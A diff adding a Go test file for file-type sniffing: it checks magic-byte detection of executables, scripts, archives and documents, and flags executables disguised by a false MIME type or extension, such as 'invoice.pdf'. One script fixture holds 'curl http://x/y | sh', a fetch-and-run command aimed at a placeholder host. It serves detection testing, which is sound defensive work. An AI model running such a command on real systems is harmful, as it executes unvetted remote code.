@@ -1,0 +1,93 @@
+package files
+
+import "testing"
+
+func TestSniff(t *testing.T) {
+	cases := []struct {
+		name, mime, exe string
+		head            []byte
+	}{
+		{"pe", "application/vnd.microsoft.portable-executable", "pe", peFile()},
+		{"elf", "application/x-executable", "elf", elfFile()},
+		{"macho", "application/x-mach-binary", "macho", machoFile()},
+		{"shebang", "text/x-shellscript", "script", []byte("#!/bin/sh\ncurl http://x/y | sh\n")},
+		{"env python", "text/x-python", "script", []byte("#!/usr/bin/env python3\nprint(1)\n")},
+		{"zip", "application/zip", "", zipFile(t, "a.txt", "hello")},
+		{"jar", "application/java-archive", "", zipFile(t, "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")},
+		{"gzip", "application/gzip", "", gzipFile(t, "hello")},
+		{"pdf", "application/pdf", "", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n")},
+		{"ole2", "application/x-ole-storage", "", oleFile()},
+		{"png", "image/png", "", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")},
+		{"html", "text/html", "", []byte("<!DOCTYPE html><html><body>hi</body></html>")},
+		{"text", "text/plain", "", []byte("just some words\n")},
+		{"a hash sign is no shebang", "text/plain", "", []byte("#!not a path\n")},
+		{"empty", "", "", nil},
+	}
+	for _, c := range cases {
+		g := Sniff(c.head)
+		if g.MimeType != c.mime || g.Executable != c.exe {
+			t.Errorf("%s: got %q/%q, want %q/%q", c.name, g.MimeType, g.Executable, c.mime, c.exe)
+		}
+	}
+}
+
+func TestContradictions(t *testing.T) {
+	pe, zipb, pdf := Sniff(peFile()), Sniff(zipFile(t, "word/document.xml", "<w/>")), Sniff([]byte("%PDF-1.4\n"))
+	html := Sniff([]byte("<html><body>x</body></html>"))
+	types := []struct {
+		g        Magic
+		declared string
+		want     bool
+	}{
+		{pe, "image/jpeg", true},
+		{pe, "application/pdf", true},
+		{pe, "application/octet-stream", false},
+		{pe, "application/x-msdownload", false},
+		{pe, "application/vnd.microsoft.portable-executable", false},
+		{pe, "", false},
+		{zipb, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", false},
+		{zipb, "application/x-zip-compressed", false}, // an alias
+		{zipb, "text/plain", true},
+		{pdf, "application/pdf", false},
+		{pdf, "text/html", true},
+		{html, "image/png", false}, // web noise, not worth a claim
+		{pe, "application/x-made-up", false},
+	}
+	for _, c := range types {
+		if got := c.g.ContradictsType(c.declared); got != c.want {
+			t.Errorf("%s declared %q: contradicts %v, want %v", c.g.MimeType, c.declared, got, c.want)
+		}
+	}
+	names := []struct {
+		g    Magic
+		name string
+		want bool
+	}{
+		{pe, "invoice.pdf", true},
+		{pe, "photo.JPG", true},
+		{pe, "setup.exe", false},
+		{pe, "readme", false},
+		{pe, "archive.unknownext", false},
+		{zipb, "report.docx", false},
+		{zipb, "report.pdf", true},
+		{pdf, "/files/report.pdf", false},
+		{pdf, "report.doc", true},
+		{html, "index.jpg", false},
+	}
+	for _, c := range names {
+		if got := c.g.ContradictsExtension(c.name); got != c.want {
+			t.Errorf("%s named %q: contradicts %v, want %v", c.g.MimeType, c.name, got, c.want)
+		}
+	}
+}
+
+func TestExtension(t *testing.T) {
+	for name, want := range map[string]string{
+		"a.EXE": "exe", "dir/x.tar.gz": "gz", `C:\Users\x\evil.pdf.scr`: "scr", ".bashrc": "",
+		"noext": "", "a.": "", "a.way-too-long-ext": "", "a.b c": "", "/path.d/file": "", "x.7z": "7z",
+	} {
+		if got := Extension(name); got != want {
+			t.Errorf("Extension(%q) = %q, want %q", name, got, want)
+		}
+	}
+}
